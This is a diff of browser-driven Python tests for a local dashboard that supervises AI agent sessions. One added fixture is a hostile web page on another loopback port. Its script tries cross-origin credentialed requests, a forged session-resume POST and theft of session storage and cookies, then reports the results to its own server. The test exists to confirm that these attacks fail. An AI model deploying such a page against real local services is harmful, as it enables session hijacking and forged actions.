@@ -367,3 +367,172 @@ def test_the_usage_panel_shows_each_windows_figure_and_where_it_comes_from(run_d
         "class") == "u-warn"
     assert not browser.find_element("id", "usage-empty").is_displayed()
     browser.save_screenshot(str(tmp_path / "dashboard-usage.png"))
+
+
+# --- a page on another loopback port -------------------------------------------------------------
+
+HOSTILE_PAGE = """<!doctype html><html><meta charset="utf-8"><title>another server</title><body>
+<img src="http://127.0.0.1:{port}/api/status"><script>
+const afd = "http://127.0.0.1:{port}";
+const said = {{}};
+async function attempt(name, run) {{
+  try {{ said[name] = await run(); }} catch (err) {{ said[name] = "error: " + err; }}
+}}
+(async () => {{
+  await attempt("read", async () => (await fetch(afd + "/api/status", {{credentials: "include"}})).status);
+  await attempt("resume", async () => (await fetch(afd + "/api/sessions/{name}/resume",
+      {{method: "POST", mode: "no-cors", credentials: "include", body: "{{}}"}})).type);
+  await attempt("storage", async () => {{
+    const w = window.open(afd + "/");
+    await new Promise((r) => setTimeout(r, 1500));
+    return w.sessionStorage.getItem("afd-session");
+  }});
+  await attempt("cookies", async () => document.cookie);
+  await fetch("/report", {{method: "POST", body: JSON.stringify(said)}});
+}})();
+</script></body></html>"""
+
+
+class Hostile:
+    """A server on another loopback port, as an agent's dev server would be: it keeps every request it gets."""
+
+    def __init__(self, page: str):
+        import http.server
+        import threading
+
+        self.requests: list[dict] = []
+        owner = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802
+                self._keep(b"")
+                body = page.encode() if self.path == "/" else b""
+                self.send_response(200 if self.path == "/" else 404)
+                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_POST(self):  # noqa: N802
+                self._keep(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
+                self.send_response(204)
+                self.end_headers()
+
+            def _keep(self, body: bytes):
+                owner.requests.append({"path": self.path, "headers": dict(self.headers.items()), "body": body.decode(errors="replace")})
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_a_page_on_another_loopback_port_gets_nothing_that_works_against_afd(limited_claude, browser):
+    import json
+
+    from web_harness import Client
+
+    port = free_port()
+    wt, base, name, claude = limited_claude(web_config(port))
+    browser.get(login_url())
+    find(browser, f'tr[data-session="{name}"]')  # logged in and watching
+    session = browser.execute_script("return sessionStorage.getItem('afd-session');")
+    assert session and Client(port, session=session).get("/api/status").status == 200
+    dashboard = browser.current_window_handle
+
+    hostile = Hostile(HOSTILE_PAGE.format(port=port, name=name))
+    try:
+        browser.switch_to.new_window("tab")
+        browser.get(f"http://127.0.0.1:{hostile.port}/")
+        [report] = wait_for(lambda: [r for r in hostile.requests if r["path"] == "/report"], timeout=30,
+                            message="the other page's report")
+        said = json.loads(report["body"])
+        received = list(hostile.requests)
+    finally:
+        hostile.stop()
+
+    # What the page could do from the browser: no answer, no storage, no cookie.
+    assert said["read"].startswith("error:"), said  # no CORS header: the browser withholds the answer
+    assert said["storage"] is None or said["storage"].startswith("error:"), said
+    assert said["cookies"] == "", said
+    # What its server received: nothing of the login, and nothing that works when replayed.
+    assert received and all(session not in json.dumps(r) for r in received)
+    for r in received:
+        replayed = {k: v for k, v in r["headers"].items() if k.lower() not in ("host", "content-length")}
+        stranger = Client(port)
+        assert stranger.get("/api/status", headers=replayed).status in (401, 403), r
+        assert stranger.post(f"/api/sessions/{name}/resume", headers={**replayed, "x-afd": "1"}).status in (401, 403), r
+    # Nothing was done to the session, and the dashboard's own tab still works.
+    s = wait_state(name, "limited")
+    assert s["agent"] == "claude" and s["handoffs"] == 0
+    browser.switch_to.window(dashboard)
+    assert browser.execute_script("return sessionStorage.getItem('afd-session');") == session
+    assert Client(port, session=session).get("/api/status").status == 200
+
+
+def test_the_page_afd_web_open_writes_logs_the_browser_in(run_daemon, xdg_dirs, browser, tmp_path):
+    import sys
+
+    from web_harness import afd
+
+    from daemon_harness import write_config
+
+    port = free_port()
+    write_config(xdg_dirs, web_config(port))
+    run_daemon()
+    given = tmp_path / "given"
+    opener = tmp_path / "opener"
+    opener.write_text(f"#!{sys.executable}\nimport sys\nopen({str(given)!r}, 'w').write(sys.argv[1])\n")
+    opener.chmod(0o700)
+    done = afd("web", "--open", env={"BROWSER": str(opener)})
+    assert done.returncode == 0, done.stderr
+    page = wait_for(lambda: given.exists() and given.read_text(), message="the address handed to the browser")
+    assert page.startswith("file:///") and "token" not in page
+    browser.get(page)
+    wait_for(lambda: browser.current_url == f"http://127.0.0.1:{port}/", message="sent on to the dashboard, the token gone")
+    wait_for(lambda: text_of(browser, "#live") == "live", message="logged in and following events")
+    assert browser.execute_script("return sessionStorage.getItem('afd-session');")
+
+
+def test_a_reload_keeps_the_login_and_a_new_tab_logs_in_on_its_own(limited_claude, browser):
+    from web_harness import Client
+
+    port = free_port()
+    wt, base, name, claude = limited_claude(web_config(port))
+    address = login_url()
+    browser.get(address)
+    find(browser, f'tr[data-session="{name}"]')
+    first = browser.current_window_handle
+    session = browser.execute_script("return sessionStorage.getItem('afd-session');")
+    assert browser.current_url == f"http://127.0.0.1:{port}/"  # the token is out of the address at once
+    # A reload keeps this tab's login.
+    browser.refresh()
+    find(browser, f'tr[data-session="{name}"]', message="the session after a reload")
+    wait_for(lambda: text_of(browser, "#live") == "live", message="following events after a reload")
+    assert browser.execute_script("return sessionStorage.getItem('afd-session');") == session
+    # A new tab on the same address has no login, shows no data and says what to do.
+    browser.switch_to.new_window("tab")
+    browser.get(f"http://127.0.0.1:{port}/")
+    wait_for(lambda: text_of(browser, "#live") == "logged out", message="the new tab logged out")
+    assert "each tab logs in on its own" in text_of(browser, "#notice")
+    assert browser.execute_script("return sessionStorage.getItem('afd-session');") is None
+    assert not browser.find_elements("css selector", f'tr[data-session="{name}"]')
+    # The first tab's address, spent, logs nobody in; a new one from `afd web` does.
+    browser.get(address)
+    wait_for(lambda: "used already or has expired" in text_of(browser, "#notice"), message="the spent address refused")
+    assert browser.execute_script("return sessionStorage.getItem('afd-session');") is None
+    browser.get(login_url())
+    find(browser, f'tr[data-session="{name}"]', message="the session in the second tab")
+    second = browser.execute_script("return sessionStorage.getItem('afd-session');")
+    assert second and second != session
+    # Both tabs' logins stand side by side.
+    browser.switch_to.window(first)
+    assert browser.execute_script("return sessionStorage.getItem('afd-session');") == session
+    assert Client(port, session=session).get("/api/status").status == 200
+    assert Client(port, session=second).get("/api/status").status == 200
